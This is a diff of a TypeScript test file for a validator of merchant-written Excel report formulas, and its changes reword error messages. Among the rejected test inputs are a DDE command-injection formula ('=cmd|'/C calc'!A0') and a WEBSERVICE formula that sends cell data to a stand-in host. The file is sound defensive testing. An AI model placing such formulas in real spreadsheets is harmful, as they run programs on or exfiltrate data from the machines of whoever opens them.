@@ -18,7 +18,7 @@ describe("a formula that a merchant writes", () => {
     ["=A1+", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
     ["=SUM(A1", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
     ["=1 2", "Excel cannot read this formula. Look for a missing bracket, operator or argument."],
-    ['="open', "A quotation mark or a bracket is open at the end. Close it."],
+    ['="open', "A quotation mark or bracket isn't closed. Close it."],
     ["=SUM(A1;B1)", "Put commas between the arguments of a function, not semicolons."],
     ["=A1#", "Excel cannot read “#” in this formula. Correct it."],
     [
@@ -30,17 +30,17 @@ describe("a formula that a merchant writes", () => {
       "=A1048577",
       "There is no “A1048577”. Refer to columns by their letters, such as A1; put text between quotation marks.",
     ],
-    ["=Sheet2!A1", "“Sheet2!A1” is outside of this worksheet. Refer to columns of the report, such as A1."],
-    ["=[1]Sheet!A1", "“[1]Sheet!A1” is outside of this worksheet. Refer to columns of the report, such as A1."],
+    ["=Sheet2!A1", "“Sheet2!A1” is outside this worksheet. Refer to columns of the report, such as A1."],
+    ["=[1]Sheet!A1", "“[1]Sheet!A1” is outside this worksheet. Refer to columns of the report, such as A1."],
     ["=cmd|'/C calc'!A0", "Excel cannot read “cmd|” in this formula. Correct it."],
     ["=IF()", "IF takes 2 to 3 arguments, not 0."],
     ["=LEN(A1,B1)", "LEN takes 1 argument, not 2."],
     ["=SUM()", "SUM takes at least 1 argument, not 0."],
     ["=VLOOKUP(A1)", "VLOOKUP takes 3 to 4 arguments, not 1."],
-    ['=WEBSERVICE("https://a.example/?"&A1)', "A report cannot hold the function WEBSERVICE. Choose another one."],
-    ["=_xlfn.LET(x,1,x)", "A report cannot hold the functions LET and LAMBDA. Use further columns for the parts."],
-    ["=LET(x,1,x)", "A report cannot hold the functions LET and LAMBDA. Use further columns for the parts."],
-    [`="${"x".repeat(256)}"`, "Excel takes at most 255 characters of text within a formula. Shorten it."],
+    ['=WEBSERVICE("https://a.example/?"&A1)', "Reports can't use the function WEBSERVICE. Choose another one."],
+    ["=_xlfn.LET(x,1,x)", "Reports can't use the functions LET and LAMBDA. Use extra columns for the parts."],
+    ["=LET(x,1,x)", "Reports can't use the functions LET and LAMBDA. Use extra columns for the parts."],
+    [`="${"x".repeat(256)}"`, "Excel allows at most 255 characters of text in a formula. Shorten it."],
     [
       `=${"IF(1,".repeat(65)}1${")".repeat(65)}`,
       "This formula is nested too deeply. Use a second column for a part of it.",
@@ -67,14 +67,14 @@ describe("a formula that a merchant writes", () => {
 
   it("may not refer to itself, nor over other columns, nor by a row that is the same for all", () => {
     expect(problems([null, "=A1+B1"])[1]).toBe(
-      "This formula stands in column B and refers to itself. Refer to other columns.",
+      "This formula is in column B and refers to itself. Refer to other columns.",
     );
     expect(problems([null, "=SUM(A1:C1)", null])[1]).toContain("refers to itself.");
     expect(problems([null, "=C1", "=D1*2", "=B1"])).toEqual([
       undefined,
-      "This formula stands in column B and refers to itself over C and D. Refer to other columns.",
-      "This formula stands in column C and refers to itself over D and B. Refer to other columns.",
-      "This formula stands in column D and refers to itself over B and C. Refer to other columns.",
+      "This formula is in column B and refers to itself over C and D. Refer to other columns.",
+      "This formula is in column C and refers to itself over D and B. Refer to other columns.",
+      "This formula is in column D and refers to itself over B and C. Refer to other columns.",
     ]);
     expect(problems([null, "=B$3+1"])[1]).toContain("refers to itself");
     expect(problems([null, "=C$3", "=B2"])[2]).toContain("refers to itself over B");
@@ -112,7 +112,7 @@ describe("a formula that a merchant writes", () => {
     expect(notices([null, "=SUM($A$1:A1)"])[1]).toBe(only("we do not compute ranges that grow from row to row"));
     expect(notices([null, "=A101"])[1]).toBe(only("we do not compute rows after 100"));
     expect(notices([null, "=A1:A3*2"])[1]).toBe(only("we do not compute several cells where one is asked for"));
-    expect(notices([null, "=A1+B2"])[1]).toContain("as it goes on down to the last row");
+    expect(notices([null, "=A1+B2"])[1]).toContain("as it runs down to the last row");
     expect(notices(["=B1", "=RAND()"])[0]).toContain("needs a column that only Excel computes");
     expect(notices([null, "=A100"])[1]).toBeUndefined();
   });
@@ -243,7 +243,7 @@ describe("limits on formula length", () => {
     const long = Array.from({ length: 7 }, () => '=REPT("x",32767)');
     const rows = (count: number) => Array.from({ length: count }, () => []);
     expect(computed([...long, "=I50", '="last"'], rows(60)).map((row) => row[7])).toContain("last");
-    expect(() => computed([...long, "=I100", '="last"'], rows(120))).toThrow(/formulas look at nearer rows/i);
+    expect(() => computed([...long, "=I100", '="last"'], rows(120))).toThrow(/Refer to nearer rows/);
     expect(() => computed([...long, "=I$100", '="last"'], rows(120))).toThrow(FormulaMemoryLimitExceeded);
     expect(computed([...long, "=I1", '="last"'], rows(120))).toHaveLength(120);
   });
